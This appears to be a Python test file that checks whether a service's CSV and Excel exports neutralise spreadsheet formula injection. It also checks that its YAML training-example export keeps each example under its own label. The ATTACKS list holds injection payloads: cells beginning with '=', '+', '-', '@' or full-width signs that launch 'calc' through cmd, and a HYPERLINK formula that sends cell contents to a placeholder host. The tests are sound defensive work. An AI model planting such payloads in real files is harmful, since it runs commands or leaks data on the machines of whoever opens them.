"""No cell of any file that the service writes for a spreadsheet can run: each export with each dangerous beginning."""

import csv
import io
import random
import re
from datetime import UTC, datetime
from pathlib import Path

import pytest
import yaml
from openpyxl import load_workbook
from sqlalchemy.orm import Session

from base import audit
from bot import learning
from dashboard import log_rows
from dashboard.reports import files
from dashboard.reports.tables import Table
from directory import coverage_told
from directory.coverage import Coverage
from directory.exchange import cells, sheet_files, tabular
from tests.directory.exchange_world import fill, wipe
from tests.meta.sources import product

# OWASP's list (CSV injection), with the full-width signs that some programs take for the same.
BEGINNINGS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
ATTACKS = (
    *(f"{sign}cmd|'/c calc'!A0" for sign in BEGINNINGS), '=HYPERLINK("http://x.example?cmd"&A1)', "-2+3+cmd",
)  # fmt: skip
NOW = datetime(2026, 11, 23, tzinfo=UTC)


def dangerous(cell: str) -> bool:
    """Whether a spreadsheet would take it for a formula; a number is none."""
    return cell.startswith(BEGINNINGS) and not re.fullmatch(r"-?\d+(\.\d+)?", cell)


def check_csv(text: str, attacked: int = 1) -> None:
    found = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    assert [cell for cell in found if dangerous(cell)] == []
    assert sum("cmd" in cell for cell in found) >= attacked, "the attack came as far as the file"


def test_every_writer_of_spreadsheets_is_tried_here() -> None:
    writes = {name for name, text in product().items() if re.search(r"csv\.writer|DictWriter|Workbook\(", text)}
    assert writes == {
        "dashboard/log_rows.py", "dashboard/reports/files.py", "directory/coverage_told.py",
        "directory/exchange/sheet_files.py", "directory/exchange/tabular.py",
    }  # fmt: skip


def test_the_directory_as_one_sheet_and_as_tables(session: Session, tmp_path: Path) -> None:
    wipe(session)
    fill(session, random.Random(7), 12, ATTACKS)
    for name in ("sheet.csv", "sheet.xlsx"):
        sheet_files.export(session, tmp_path / name)
    check_csv((tmp_path / "sheet.csv").read_text(encoding="utf-8-sig"), 5)
    tabular.export(session, tmp_path / "tables")
    for path in (tmp_path / "tables").glob("*.csv"):
        check_csv(path.read_text(encoding="utf-8-sig"), 0)
    check_csv((tmp_path / "tables" / "services.csv").read_text(encoding="utf-8-sig"), 5)
    book = load_workbook(tmp_path / "sheet.xlsx")
    kinds = {cell.data_type for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value}
    assert "f" not in kinds


def test_what_is_written_for_a_spreadsheet_is_read_back_as_it_was() -> None:
    for attack in ATTACKS:
        assert cells.text(cells.written(attack)) == attack


def test_the_audit_log(session: Session) -> None:
    for attack in ATTACKS:
        audit.record(session, attack, NOW, subject=attack, detail={attack: attack})
    check_csv(b"".join(log_rows.as_csv(session)).decode(), len(ATTACKS))


@pytest.mark.parametrize("attack", ATTACKS)
def test_reports_as_csv_and_as_workbook(attack: str) -> None:
    table = Table("t", attack, attack, (attack, "Count"), ((attack, 3), ("fine", None)), note=attack)
    check_csv(files.as_csv([table], attack, attack).decode("utf-8-sig"), 6)
    book = load_workbook(io.BytesIO(files.as_xlsx([table], attack, attack)))
    kinds = {cell.data_type for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value}
    assert "f" not in kinds


@pytest.mark.parametrize("attack", ATTACKS)
def test_coverage(attack: str) -> None:
    check_csv(coverage_told.as_csv(Coverage(attack, (attack,), {})), 1)


@pytest.mark.parametrize(
    "words", ["=cmd", "a\n- intent: x\n  examples: |\n    - y", "- b", "[x](need:food)", "# c", '"']
)
def test_examples_for_the_model_stay_one_example_of_their_own_label(words: str, tmp_path: Path) -> None:
    [path] = learning.export([("en", "need_food", words)], tmp_path)
    told = yaml.safe_load(path.read_text(encoding="utf-8"))["nlu"]
    assert [block["intent"] for block in told] == ["need_food"]
    assert len(told[0]["examples"].strip().splitlines()) == 1
